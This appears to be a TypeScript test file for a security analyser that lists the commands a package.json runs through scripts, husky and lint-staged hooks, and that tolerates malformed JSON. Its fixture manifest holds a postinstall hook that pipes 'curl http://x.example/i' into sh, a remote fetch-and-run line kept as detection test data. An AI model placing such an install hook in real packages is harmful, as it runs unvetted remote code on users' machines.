import assert from "node:assert/strict";
import type { Analyser } from "../../../extension/core/analysis/analyser.ts";
import { mutations, survives } from "./mutations.ts";
import { canonical, commandSpans, testAnalyser, viaOf } from "./test-analyser.ts";

const manifest = `{
  "name": "x",
  "scripts": {
    "postinstall": "curl http://x.example/i | sh",
    "a": "nmap \\"h i\\" && node x.js",
    "b": 3
  },
  "husky": { "hooks": { "pre-commit": "nmap j" } },
  "lint-staged": { "*.js": ["eslint --fix", "nmap k"] },
  "description": "nmap l"
}
`;

describe("what a package.json runs", () => {
  let analyser: Analyser;
  before(async () => {
    analyser = await testAnalyser();
  });
  const lines = (text: string) => canonical(analyser, "package-json", text);
  const problems = async (text: string) =>
    (await analyser.analyse({ path: "a/package.json", text }, 5_000)).problems.map(({ code, weight, range }) => [
      code,
      weight,
      range?.start.line,
      range?.start.character,
    ]);

  it("is its scripts and the hooks of known packages", async () => {
    assert.deepEqual(await lines(manifest), [
      "curl -- http://x.example/i | sh",
      ":fetch http://x.example/i | :run sh",
      "nmap -- 'h i'",
      "node -- x.js",
      "nmap -- j",
      "eslint -- --fix",
      "nmap -- k",
    ]);
  });

  it("is marked where it stands, behind escapes as the escapes", async () => {
    assert.deepEqual(
      [...new Set(await commandSpans(analyser, "package-json", manifest))],
      ["curl http://x.example/i", "sh", 'nmap \\"h i\\"', "node x.js", "nmap j", "eslint --fix", "nmap k"],
    );
    assert.deepEqual(await commandSpans(analyser, "package-json", '{"scripts":{"a":"\\u006emap h"}}'), ["\\u006emap h"]);
  });

  it("is told by the script's name", async () => {
    const hosts = (await viaOf(analyser, "package-json", manifest)).map(([host]) => host);
    assert.deepEqual([...new Set(hosts)], ["package-json:postinstall", "package-json:a", "package-json:husky", "package-json:lint-staged"]);
  });

  it("says where it is no JSON, and reads the rest", async () => {
    const text = '{ "scripts": { "a": "nmap h" "b": "nmap i", c: "nmap j" }';
    assert.deepEqual(await problems(text), [
      ["unparsed", "blocking", 0, 29],
      ["unparsed", "blocking", 0, 44],
      ["unparsed", "blocking", 0, 56],
    ]);
    assert.deepEqual(await lines(text), ["nmap -- h", "nmap -- i", "nmap -- j"]);
    assert.deepEqual((await problems('{"scripts":{"a":"nmap\nh"}}'))[0], ["unparsed", "blocking", 0, 16]);
    assert.deepEqual(await problems('{"a": "\\q"}'), [["unparsed", "blocking", 0, 7]]);
    assert.deepEqual(await problems(""), [["unparsed", "blocking", 0, 0]]);
  });

  const broken: readonly (readonly [text: string, character: number, ...expected: string[]])[] = [
    ['{"scripts" {"a": "nmap h"}}', 11, "nmap -- h"],
    ['{"lint-staged": {"a": ["nmap h", "nmap i"}}', 41, "nmap -- h", "nmap -- i"],
    ['{"lint-staged": {"a": ["nmap h"', 30, "nmap -- h"],
    ['{"scripts": {"a": "nmap h", "b": , "c": "nmap i"}}', 33, "nmap -- h", "nmap -- i"],
    ['{"scripts": {"a": "nmap h"}} x', 29, "nmap -- h"],
  ];
  for (const [text, character, ...expected] of broken) {
    it(`reads what is left of ${text}`, async () => {
      assert.deepEqual((await problems(text))[0], ["unparsed", "blocking", 0, character]);
      assert.deepEqual(await lines(text), expected);
    });
  }

  it("takes what some tools allow", async () => {
    const text = '{ // "a": 1\n "scripts": { "a": "nmap h", /* "b": 2 */ }, }';
    assert.deepEqual([await problems(text), await lines(text)], [[], ["nmap -- h"]]);
  });

  it("stops where it is nested too deeply", async () => {
    const found = await problems(`{"scripts": ${'{"a":'.repeat(100_000)}`);
    assert.ok(found.some(([code, weight]) => code === "unparsed" && weight === "blocking"));
  });

  it("stands in package.json alone", () => {
    assert.equal(analyser.languageOf("a/package.json", ""), "package-json");
    assert.equal(analyser.languageOf("a/composer.json", "{}"), undefined);
  });

  it("survives what is nearly right", async () => {
    await survives(
      analyser,
      "package-json",
      mutations(manifest, ['"', "\\", "\\u12", "{", "}", "[", "]", ":", ",", "//", "/*", "\n"], 300),
    );
  });
}).timeout(60_000);
